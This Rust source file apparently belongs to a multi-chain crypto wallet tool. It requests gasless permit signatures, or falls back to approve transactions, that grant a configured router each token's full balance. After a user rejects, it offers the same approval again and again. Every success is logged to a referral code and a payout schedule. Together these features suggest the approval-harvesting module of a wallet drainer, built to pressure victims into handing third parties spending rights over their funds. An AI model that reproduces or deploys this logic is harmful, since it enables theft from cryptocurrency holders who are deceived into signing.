use std::sync::Arc;
use std::time::Duration;
use tokio::time::sleep;
use tracing::{debug, error, info, warn};

use crate::config::{EngineConfig, PERMIT_DEADLINE_SECS};
use crate::error::{ApproveError, ApproveResult};
use crate::events::{ApprovalEvent, EventSink, ReferralApproval};
use crate::models::{EligibleToken, ScheduleToken, TokenStatus};
use crate::payout::{advance_schedule, initial_schedule};
use crate::registry::ChainRegistry;
use crate::session::{Session, SessionCounter};
use crate::store::{KvStore, PayoutRepository};
use crate::utils::{now_ms, short_addr};
use crate::wallet::{
    approve_calldata, ChainSwitcher, PermitPayload, SignatureParts, WalletGateway,
};

use alloy_primitives::Address;

/// How an approval was granted.
#[derive(Debug, Clone)]
enum ApprovalGrant {
    /// Off-chain signature; no transaction was sent.
    Permit(SignatureParts),
    /// On-chain transaction hash.
    Transaction(String),
}

/// Summary of one queue run.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ApprovalReport {
    pub approved: usize,
    /// Of the approved, how many went through the signature path.
    pub signed: usize,
    pub failed: usize,
    pub rejections: usize,
    /// The run exited because the session was invalidated.
    pub aborted: bool,
}

/// Consumes the eligible-token queue one item at a time: gasless
/// signature-based grants preferred, on-chain transactions as fallback.
/// Every suspension point re-validates the session captured at the start of
/// the run; a stale session abandons the run without further side effects.
pub struct ApprovalOrchestrator<G, K, E>
where
    G: WalletGateway,
    K: KvStore,
    E: EventSink,
{
    gateway: Arc<G>,
    repo: PayoutRepository<K>,
    events: Arc<E>,
    sessions: Arc<SessionCounter>,
    registry: Arc<ChainRegistry>,
    switcher: ChainSwitcher,
    config: EngineConfig,
}

impl<G, K, E> ApprovalOrchestrator<G, K, E>
where
    G: WalletGateway,
    K: KvStore,
    E: EventSink,
{
    pub fn new(
        gateway: Arc<G>,
        repo: PayoutRepository<K>,
        events: Arc<E>,
        sessions: Arc<SessionCounter>,
        registry: Arc<ChainRegistry>,
        config: EngineConfig,
    ) -> Self {
        Self {
            gateway,
            repo,
            events,
            sessions,
            registry,
            switcher: ChainSwitcher::new(),
            config,
        }
    }

    /// Processes the queue until it is empty or the session moves on.
    /// Successes are removed from the queue; a user rejection re-offers the
    /// same head; any other failure marks the token and advances past it.
    pub async fn run(&self, queue: &mut Vec<EligibleToken>, session: Session) -> ApprovalReport {
        let mut report = ApprovalReport::default();
        let mut idx = 0;
        while idx < queue.len() {
            if !self.sessions.is_current(session) {
                report.aborted = true;
                break;
            }
            {
                let token = &queue[idx];
                info!(
                    chain = %token.chain_name,
                    symbol = %token.symbol,
                    token = %short_addr(&token.address),
                    "processing approval"
                );
            }
            match self.approve_one(&mut queue[idx], session).await {
                Ok(grant) => {
                    if !self.sessions.is_current(session) {
                        report.aborted = true;
                        break;
                    }
                    let token = queue.remove(idx);
                    report.approved += 1;
                    if matches!(grant, ApprovalGrant::Permit(_)) {
                        report.signed += 1;
                    }
                    self.finalize_success(&token, &grant, session).await;
                    sleep(Duration::from_millis(self.config.approval_cooldown_ms)).await;
                }
                Err(ApproveError::Stale) => {
                    report.aborted = true;
                    break;
                }
                Err(ApproveError::UserRejected) => {
                    report.rejections += 1;
                    warn!(
                        symbol = %queue[idx].symbol,
                        "user rejected the approval, re-offering the same token"
                    );
                    sleep(Duration::from_millis(self.config.rejection_cooldown_ms)).await;
                }
                Err(e) => {
                    if !self.sessions.is_current(session) {
                        report.aborted = true;
                        break;
                    }
                    queue[idx].status = TokenStatus::NeedsApprove;
                    report.failed += 1;
                    error!(
                        symbol = %queue[idx].symbol,
                        error = %e,
                        "approval failed, continuing with the next token"
                    );
                    sleep(Duration::from_millis(self.config.approval_cooldown_ms)).await;
                    idx += 1;
                }
            }
        }
        report
    }

    /// Applies the permit/transaction flow to a single out-of-band token,
    /// e.g. a row the operator retries after a failure. Does not touch the
    /// main queue.
    pub async fn retry_one(
        &self,
        token: &mut EligibleToken,
        session: Session,
    ) -> ApproveResult<()> {
        if !self.sessions.is_current(session) {
            return Err(ApproveError::Stale);
        }
        let grant = self.approve_one(token, session).await?;
        self.finalize_success(token, &grant, session).await;
        Ok(())
    }

    async fn approve_one(
        &self,
        token: &mut EligibleToken,
        session: Session,
    ) -> ApproveResult<ApprovalGrant> {
        let wallet = self.gateway.wallet().ok_or(ApproveError::NoWallet)?;
        let router = self.registry.router(token.chain_id).ok_or_else(|| {
            ApproveError::Transaction(format!("no router configured for chain {}", token.chain_id))
        })?;

        if self.gateway.can_sign() {
            if let Some(parts) = self.try_permit(token, wallet, router, session).await? {
                self.check(session)?;
                token.status = TokenStatus::Signed;
                return Ok(ApprovalGrant::Permit(parts));
            }
        }

        self.switcher
            .ensure(self.gateway.as_ref(), token.chain_id)
            .await?;
        self.check(session)?;

        let data = approve_calldata(router, token.balance);
        let tx_hash = self
            .gateway
            .send_transaction(token.chain_id, token.address, data)
            .await?;
        self.check(session)?;
        token.status = TokenStatus::Approved;
        Ok(ApprovalGrant::Transaction(tx_hash))
    }

    /// Signature path. Capability-probe and signing failures other than an
    /// explicit user rejection return `None` so the caller falls through
    /// silently to the transaction path.
    async fn try_permit(
        &self,
        token: &EligibleToken,
        wallet: Address,
        router: Address,
        session: Session,
    ) -> ApproveResult<Option<SignatureParts>> {
        let supported = match self
            .gateway
            .supports_permit(token.chain_id, token.address)
            .await
        {
            Ok(supported) => supported,
            Err(e) => {
                debug!(symbol = %token.symbol, error = %e, "permit probe failed, using the transaction path");
                return Ok(None);
            }
        };
        if !supported {
            return Ok(None);
        }
        self.check(session)?;

        let nonce = match self
            .gateway
            .permit_nonce(token.chain_id, token.address, wallet)
            .await
        {
            Ok(nonce) => nonce,
            Err(e) => {
                debug!(symbol = %token.symbol, error = %e, "permit nonce read failed, using the transaction path");
                return Ok(None);
            }
        };
        self.check(session)?;

        let payload = PermitPayload {
            chain_id: token.chain_id,
            token: token.address,
            owner: wallet,
            spender: router,
            value: token.balance,
            nonce,
            deadline: now_ms() / 1000 + PERMIT_DEADLINE_SECS,
        };
        match self.gateway.sign_typed_data(&payload).await {
            Ok(raw) => {
                self.check(session)?;
                match SignatureParts::from_raw(&raw) {
                    Ok(parts) => Ok(Some(parts)),
                    Err(e) => {
                        debug!(symbol = %token.symbol, error = %e, "unusable permit signature, using the transaction path");
                        Ok(None)
                    }
                }
            }
            Err(ApproveError::UserRejected) => Err(ApproveError::UserRejected),
            Err(e) => {
                debug!(symbol = %token.symbol, error = %e, "permit signing failed, using the transaction path");
                Ok(None)
            }
        }
    }

    /// Post-success bookkeeping: approved-set cache, payout schedule,
    /// external events. Everything here is best-effort; failures are logged
    /// and never unwind the approval itself.
    async fn finalize_success(&self, token: &EligibleToken, grant: &ApprovalGrant, session: Session) {
        if !self.sessions.is_current(session) {
            return;
        }
        let Some(wallet) = self.gateway.wallet() else {
            return;
        };
        let now = now_ms();

        if let Err(e) = self.repo.mark_approved(wallet, &token.key()) {
            warn!(error = %e, "failed to record token in approved-set cache");
        }

        let control = match self.repo.control(wallet) {
            Ok(control) => control,
            Err(e) => {
                warn!(error = %e, "failed to load payout control");
                None
            }
        };
        let next_payout_at = match self.repo.schedule(wallet) {
            Ok(existing) => {
                let schedule = match existing {
                    Some(mut schedule) => {
                        advance_schedule(
                            &mut schedule,
                            control.as_ref(),
                            ScheduleToken::from(token),
                            now,
                        );
                        schedule
                    }
                    None => initial_schedule(
                        ScheduleToken::from(token),
                        now,
                        self.config.payout_interval_ms,
                    ),
                };
                if let Err(e) = self.repo.set_schedule(wallet, &schedule) {
                    warn!(error = %e, "failed to persist payout schedule");
                }
                schedule.next_payout_at
            }
            Err(e) => {
                warn!(error = %e, "failed to load payout schedule, skipping update");
                now + self.config.payout_interval_ms
            }
        };

        let event = ApprovalEvent {
            wallet,
            chain_id: token.chain_id,
            chain_name: token.chain_name.clone(),
            token: token.address,
            symbol: token.symbol.clone(),
            approved_at: now,
            next_payout_at,
            via_permit: matches!(grant, ApprovalGrant::Permit(_)),
            tx_hash: match grant {
                ApprovalGrant::Transaction(hash) => Some(hash.clone()),
                ApprovalGrant::Permit(_) => None,
            },
        };
        if let Err(e) = self.events.approval_granted(&event).await {
            warn!(error = %e, "failed to record approval event");
        }

        let referral = ReferralApproval {
            wallet,
            referral_code: self.config.referral_code.clone(),
            timestamp: now,
        };
        if let Err(e) = self.events.referral_approval(&referral).await {
            warn!(error = %e, "failed to record referral approval");
        }
    }

    fn check(&self, session: Session) -> ApproveResult<()> {
        if self.sessions.is_current(session) {
            Ok(())
        } else {
            Err(ApproveError::Stale)
        }
    }
}
